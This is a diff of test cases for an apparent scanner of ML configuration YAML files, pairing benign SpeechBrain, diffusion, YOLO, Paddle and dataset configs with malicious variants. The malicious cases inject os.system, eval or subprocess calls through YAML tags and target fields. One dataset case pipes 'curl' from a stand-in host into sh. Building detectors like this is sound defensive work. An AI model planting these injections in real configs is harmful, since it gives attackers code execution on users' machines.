@@ -49,6 +49,63 @@ data: {{ .Values.data | toYaml }}
 """
 APPLY = '!!python/object/apply:os.system ["echo modelsweep-test"]\n'
 
+SPEECHBRAIN = """sample_rate: 16000
+n_mels: 40
+encoder: !new:speechbrain.nnet.CNN.Conv1d
+    out_channels: 8
+    kernel_size: 3
+activation: !name:torch.nn.LeakyReLU
+lengths: !apply:range [1, 5]
+seed: !apply:torch.manual_seed [!ref <n_mels>]
+modules:
+    encoder: !ref <encoder>
+    pretrained: !PLACEHOLDER
+rest: !include:other.yaml
+"""
+DIFFUSION = """model:
+  base_learning_rate: 1.0e-04
+  target: ldm.models.diffusion.ddpm.LatentDiffusion
+  params:
+    scheduler_config:
+      target: ldm.lr_scheduler.LambdaLinearScheduler
+      params: {warm_up_steps: [10000]}
+"""
+PYANNOTE = """version: 3.1.0
+pipeline:
+  name: pyannote.audio.pipelines.SpeakerDiarization
+  params:
+    segmentation: pyannote/segmentation-3.0
+"""
+YOLO = """nc: 80
+depth_multiple: 0.33
+activation: nn.LeakyReLU(0.1)
+anchors:
+  - [10, 13, 16, 30]
+backbone:
+  [
+    [-1, 1, Conv, [64, 6, 2, 2]],
+    [-1, 1, nn.Upsample, [None, 2, "nearest"]],
+    [-1, 1, TorchVision, [768, convnext_tiny, DEFAULT, True, 2]],
+  ]
+head: [[[17, 20, 23], 1, Detect, [nc, anchors]]]
+"""
+PADDLE = """PreProcess:
+  transform_ops:
+  - NormalizeImage: {mean: [0.485, 0.456], std: [0.229, 0.224], order: hwc, scale: 1./255.}
+"""
+DATASET = """path: ../datasets/acme
+train: images/train
+val: images/val
+names: {0: cat}
+download: |
+  from pathlib import Path
+  from ultralytics.utils.downloads import download
+
+  download([ASSETS_URL + "/acme.zip"], dir=Path(yaml["path"]), threads=3)
+"""
+BENTO = "service: 'service:svc'\nlabels: {owner: acme}\npython: {packages: [scikit-learn]}\n"
+RUN = "__import__('os').system('echo modelsweep-test')"
+
 
 def yaml(
     content: str, verdict: Verdict = Verdict.CLEAN, name: str = "config.yaml", options: Options | None = None
@@ -58,6 +115,35 @@ def yaml(
 
 
 CASES = {
+    "benign_speechbrain": yaml(SPEECHBRAIN, name="hyperparams.yaml"),
+    "benign_diffusion": yaml(DIFFUSION, name="v1-inference.yaml"),
+    "benign_pyannote": yaml(PYANNOTE),
+    "benign_yolo": yaml(YOLO, name="yolov5s.yaml"),
+    "benign_paddle": yaml(PADDLE, name="inference.yml"),
+    "benign_dataset": yaml(DATASET, name="data.yaml"),
+    "benign_bento": yaml(BENTO, name="bentofile.yaml"),
+    "benign_workflow": yaml(
+        "name: os.system\non: push\njobs:\n  a:\n    target: os.system\n    module: os.system\n    type: os.system\n"
+    ),
+    "speechbrain_applies": yaml(SPEECHBRAIN + "x: !apply:os.system [echo]\n", Verdict.MALICIOUS),
+    "speechbrain_builtin": yaml(SPEECHBRAIN + "x: !apply:eval [1]\n", Verdict.MALICIOUS),
+    "speechbrain_stranger": yaml(SPEECHBRAIN + "x: !new:acme.Net\n", Verdict.REVIEW),
+    "diffusion_runs": yaml(DIFFUSION.replace("ldm.lr_scheduler.LambdaLinearScheduler", "os.system"), Verdict.MALICIOUS),
+    "diffusion_runs_by_an_anchor": yaml(
+        "a: &a {target: subprocess.Popen}\nb:\n  <<: *a\n  params: {args: echo}\n", Verdict.MALICIOUS
+    ),
+    "pyannote_runs": yaml(
+        PYANNOTE.replace("pyannote.audio.pipelines.SpeakerDiarization", "subprocess.run"), Verdict.MALICIOUS
+    ),
+    "haystack_runs": yaml("components: {a: {type: os.system, init_parameters: {command: echo}}}\n", Verdict.MALICIOUS),
+    "yolo_activation_runs": yaml(YOLO.replace("nn.LeakyReLU(0.1)", RUN), Verdict.MALICIOUS, "yolov5s.yaml"),
+    "yolo_layer_runs": yaml(
+        YOLO.replace("Conv, [64, 6, 2, 2]", "os.system, [\"'echo modelsweep-test'\"]"), Verdict.MALICIOUS
+    ),
+    "paddle_scale_runs": yaml(PADDLE.replace("1./255.", RUN), Verdict.MALICIOUS, "inference.yml"),
+    "dataset_runs": yaml(
+        DATASET + "  import os\n  os.system('curl -s http://acme.example/x | sh')\n", Verdict.MALICIOUS, "data.yaml"
+    ),
     "benign_lightning_hparams": yaml(LIGHTNING),
     "benign_hydra_of_frameworks": yaml(HYDRA),
     "benign_tags_in_comments_and_text": yaml(PROSE),
